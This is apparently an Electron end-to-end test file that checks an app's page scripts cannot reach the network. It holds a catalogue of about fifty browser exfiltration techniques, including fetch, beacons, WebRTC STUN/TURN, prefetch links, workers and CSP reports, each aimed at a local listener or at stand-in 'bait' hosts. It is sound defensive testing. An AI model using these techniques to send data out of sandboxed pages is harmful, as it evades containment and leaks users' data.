// @ts-nocheck
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '../support/electron/readyTest';
import type { RunningApp } from '../support/electron/launchApp';
import { startListeners, type Listeners } from '../support/listeners';

/** Refusals are reported on the console; these attacks provoke them. */
const REFUSALS = [
  /Content Security Policy/,
  /ERR_/,
  /Failed to (load|construct)/,
  /Not allowed/,
  /WebTransport/,
];

/** How long a way out is given to show itself, in ms. */
const TIMEOUT_MS = 1500;

/** What a page can try without a gesture of its user: `tcp` and `udp` are the listener's ports. */
const ATTACKS: Record<string, string> = {
  fetch: 'await fetch(http, { method: "POST", mode: "no-cors", body: "bait" })',
  'fetch, kept alive':
    'await fetch(http, { method: "POST", mode: "no-cors", keepalive: true, body: "bait" })',
  XMLHttpRequest: 'const r = new XMLHttpRequest(); r.open("POST", http); r.send("bait")',
  'synchronous XMLHttpRequest': 'const r = new XMLHttpRequest(); r.open("POST", http, false); r.send("bait")',
  beacon: 'navigator.sendBeacon(http, "bait")',
  WebSocket: 'new WebSocket(http.replace("http", "ws"))',
  EventSource: 'new EventSource(http)',
  WebTransport: 'await new WebTransport("https://127.0.0.1:" + udp + "/bait").ready',
  'RTCPeerConnection, STUN over UDP': 'await rtc(["stun:127.0.0.1:" + udp])',
  'RTCPeerConnection, TURN over UDP': 'await rtc(["turn:127.0.0.1:" + udp + "?transport=udp"])',
  'RTCPeerConnection, TURN over TCP': 'await rtc(["turn:127.0.0.1:" + tcp + "?transport=tcp"])',
  'RTCPeerConnection, TURN over TLS': 'await rtc(["turns:127.0.0.1:" + tcp + "?transport=tcp"])',
  'RTCPeerConnection, to a peer that the page describes': 'await rtc([], true)',
  'RTCPeerConnection, servers with names':
    'await rtc(["stun:bait-by-stun.example", "turn:bait-by-turn.example?transport=udp", "turn:bait-by-turn-tcp.example?transport=tcp", "turns:bait-by-turns.example"])',
  'RTCPeerConnection, a peer with a name': 'await rtc([], true, "bait-by-candidate.example")',
  'link that could be followed, names looked up ahead':
    'add("meta", { httpEquiv: "x-dns-prefetch-control", content: "on" }); add("a", { href: "https://bait-by-anchor.example/" })',
  'link, dns-prefetch': 'link({ rel: "dns-prefetch", href: "https://bait-by-link.example/" })',
  'link, preconnect': 'link({ rel: "preconnect", href: http, crossOrigin: "anonymous" })',
  'link, preconnect to a name': 'link({ rel: "preconnect", href: "https://bait-by-connection.example/" })',
  'link, prefetch': 'link({ rel: "prefetch", href: http })',
  'link, preload': 'link({ rel: "preload", as: "image", href: http })',
  'link, modulepreload': 'link({ rel: "modulepreload", href: http })',
  'link, style sheet': 'link({ rel: "stylesheet", href: http })',
  'link, icon': 'link({ rel: "icon", href: http })',
  'link, manifest': 'link({ rel: "manifest", href: http })',
  'speculation rules':
    'add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [http] }], prerender: [{ urls: [http] }] }) })',
  image: 'add("img", { src: http })',
  'image set': 'add("img", { srcset: http + " 1x" })',
  'video and its poster': 'add("video", { src: http, poster: http })',
  audio: 'add("audio", { src: http })',
  script: 'add("script", { src: http })',
  'style with a picture': 'document.body.style.backgroundImage = "url(" + http + ")"',
  font: 'await new FontFace("bait", "url(" + http + ")").load()',
  object: 'add("object", { data: http })',
  embed: 'add("embed", { src: http })',
  frame: 'add("iframe", { src: http })',
  'form, GET': 'add("form", { action: http }).submit()',
  'form, POST': 'add("form", { action: http, method: "post" }).submit()',
  'link with a ping': 'add("a", { href: "#bait", ping: http }).click()',
  'link followed': 'add("a", { href: http }).click()',
  navigation: 'location.href = http',
  'navigation by refresh': 'add("meta", { httpEquiv: "refresh", content: "0;url=" + http })',
  'window.open': 'window.open(http)',
  'worker from elsewhere': 'new Worker(http)',
  'shared worker from elsewhere': 'new SharedWorker(http)',
  'worker of its own, which fetches':
    'new Worker(URL.createObjectURL(new Blob(["fetch(\'" + http + "\')"])))',
  'service worker': 'await navigator.serviceWorker.register(http)',
  'module from elsewhere': 'await import(http)',
  'report of a violation':
    'new ReportingObserver(() => undefined).observe(); add("meta", { httpEquiv: "Content-Security-Policy", content: "img-src \'none\'; report-uri " + http })',
  'payment handler':
    'await new PaymentRequest([{ supportedMethods: http }], { total: { label: "", amount: { currency: "EUR", value: "1" } } }).canMakePayment()',
};

/** What the attacks share. */
const HELPERS = `
  const add = (name, set) => { const node = Object.assign(document.createElement(name), set); document.body.append(node); return node; };
  const link = (set) => document.head.append(Object.assign(document.createElement('link'), set));
  const peers = [];
  const rtc = async (urls, isDirect = false, host = '127.0.0.1') => {
    const own = new RTCPeerConnection({
      iceServers: urls.map((url) => ({ urls: url, username: 'bait', credential: 'bait' })),
      iceCandidatePoolSize: 4,
    });
    peers.push(own);
    own.createDataChannel('bait');
    await own.setLocalDescription(await own.createOffer());
    if (isDirect) {
      const other = new RTCPeerConnection();
      await other.setRemoteDescription(own.localDescription);
      await other.setLocalDescription(await other.createAnswer());
      await own.setRemoteDescription(other.localDescription);
      for (const [protocol, port] of [['udp', udp], ['tcp', tcp]])
        await own.addIceCandidate({
          candidate: 'candidate:1 1 ' + protocol + ' 2122260223 ' + host + ' ' + port + ' typ host' + (protocol === 'tcp' ? ' tcptype passive' : ''),
          sdpMid: '0',
        });
    }
  };`;

/** Nothing tells when these have done what they can: they are given the whole time. */
const takesAllTime = (name: string): boolean => /RTC|Transport/.test(name);

/** Has the page try one way out, to somebody who listens. */
async function tryOut({ electron }: RunningApp, name: string, { tcp, udp }: Listeners): Promise<void> {
  const script = `(async () => {
    const tcp = ${String(tcp)}, udp = ${String(udp)}, http = 'http://127.0.0.1:' + tcp + '/bait';
    ${HELPERS}
    const late = new Promise((done) => setTimeout(done, ${String(TIMEOUT_MS)}));
    await Promise.race([late, (async () => { ${ATTACKS[name] ?? ''} })()]).catch(() => undefined);
    await ${takesAllTime(name) ? 'late' : 'new Promise((done) => setTimeout(done, 100))'};
    for (const peer of peers) peer.close();
  })().then(() => true)`;
  await electron.evaluate(
    ({ BrowserWindow }, text) =>
      // A page that left takes its script's result with it.
      Promise.race([
        BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(text),
        new Promise((done) => setTimeout(done, 4000)),
      ]).catch(() => undefined),
    script,
  );
}

test('no script of the page reaches the network', async ({ ready, profileFolder, expectedErrors }) => {
  test.setTimeout(180_000);
  expectedErrors.push(...REFUSALS);
  const app = await ready();
  const netLog = join(profileFolder, 'net.json');
  await app.electron.evaluate(async ({ session }, path) => {
    await session.defaultSession.netLog.startLogging(path, { captureMode: 'everything' });
    // So that a name that is looked up is known to be seen.
    await session
      .fromPartition('control')
      .resolveHost('bait-of-the-control.example')
      .catch(() => null);
  }, netLog);

  const reached: Record<string, unknown> = {};
  const note = (name: string, listeners: Listeners): void => {
    const taken = listeners.taken();
    if (taken.connections + taken.datagrams > 0) reached[name] = taken;
  };
  const names = Object.keys(ATTACKS);
  // Time is all that these take, so they go side by side; each has a listener of its own, to be named by.
  const apart = await Promise.all(
    names.filter(takesAllTime).map(async (name) => {
      const listeners = await startListeners();
      await tryOut(app, name, listeners);
      return { name, listeners };
    }),
  );
  const listeners = await startListeners();
  for (const name of names.filter((one) => !takesAllTime(one))) {
    await tryOut(app, name, listeners);
    note(name, listeners);
  }
  await app.electron.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
  for (const one of [...apart, { name: 'something that came late', listeners }]) {
    note(one.name, one.listeners);
    await one.listeners.close();
  }

  expect(reached).toEqual({});
  const looked = readFileSync(netLog, 'utf8').match(/"host":"[^"]*bait-[^"]*"/g) ?? [];
  expect(looked.join()).toContain('bait-of-the-control.example');
  expect(looked.filter((host) => !host.includes('bait-of-the-control'))).toEqual([]);
});
